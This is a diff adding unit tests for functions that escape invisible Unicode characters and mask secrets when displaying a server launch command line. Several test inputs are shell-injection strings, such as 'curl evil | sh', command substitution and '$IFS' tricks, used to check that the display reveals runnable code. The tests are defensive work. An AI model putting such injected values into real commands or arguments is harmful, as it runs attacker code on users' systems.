@@ -43,7 +43,10 @@ describe("visible", () => {
     ["a\u202eb", String.raw`a\u{202e}b`],
     ["a\nb\u0000", String.raw`a\u{a}b\u{0}`],
     ["a\u00a0b\u200b", String.raw`a\u{a0}b\u{200b}`],
-    ["Grüße", "Grüße"],
+    ["a\u3164b\u115f\uffa0", String.raw`a\u{3164}b\u{115f}\u{ffa0}`],
+    ["a\u2800b", String.raw`a\u{2800}b`],
+    ["a\ufe0fb\u034f\u{e0101}", String.raw`a\u{fe0f}b\u{34f}\u{e0101}`],
+    ["Grüße 你好", "Grüße 你好"],
   ])("writes %j as %s", (text, expected) => {
     expect(visible(text)).toBe(expected);
   });
@@ -65,6 +68,35 @@ describe("launchLine", () => {
     expect(line({ variables: [shown("A=1 npx good in /w B", "x")] })).toBe(
       '"A=1 npx good in /w B"=x npx -y @scope/server',
     );
+  });
+
+  it.each([
+    ["GITHUB_TOKEN=ghp_made-up", '"GITHUB_TOKEN=ghp_•••"'],
+    ["-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_made-up", '"-eGITHUB_PERSONAL_ACCESS_TOKEN=ghp_•••"'],
+    ["--env=STRIPE_KEY=sk_lmade-up", '"--env=STRIPE_KEY=sk_l•••"'],
+    ["-DDATABASE_URL=abcdmade-up", '"-DDATABASE_URL=abcd•••"'],
+    ["DATABASE_URL=postgres://u:made-up@h/d?a=1&b=2", '"DATABASE_URL=postgres://•••@h/d?a=1&b=2"'],
+    ["API_KEY=${input:key}", '"API_KEY=${input:key}"'],
+    ["API_KEY=abcd", "API_KEY=abcd"],
+    // What is no secret's name decides what runs.
+    ["--env=NODE_OPTIONS=--import=x", "--env=NODE_OPTIONS=--import=x"],
+    ["REGION=eu-central-1", "REGION=eu-central-1"],
+    ["KEY=eu-central-1", "KEY=eu-central-1"],
+  ])("shows of an assignment among the arguments %s no secret: %s", (argument, expected) => {
+    expect(line({ args: ["-e", argument] })).toBe(`npx -e ${expected}`);
+  });
+
+  it.each([
+    ["A_TOKEN=1;curl evil | sh"],
+    ["A_TOKEN=1&./evil.sh"],
+    ["A_TOKEN=$(./evil)"],
+    ["A_TOKEN=`./evil`"],
+    ["--api-key=a$IFS;evil"],
+    ["-etoken=system('evil')"],
+  ])("shows what a shell or an interpreter could run, whatever it is called: %s", (argument) => {
+    expect(line({ args: ["-c", argument] })).toContain(word(argument));
+    const [, value = ""] = /=(.*)$/.exec(argument) ?? [];
+    expect(line({ command: "bash", args: ["-secret", value] })).toBe(`bash -secret ${word(value)}`);
   });
 
   it("shows no secret, and the beginning alone of what an option for a key is given", () => {
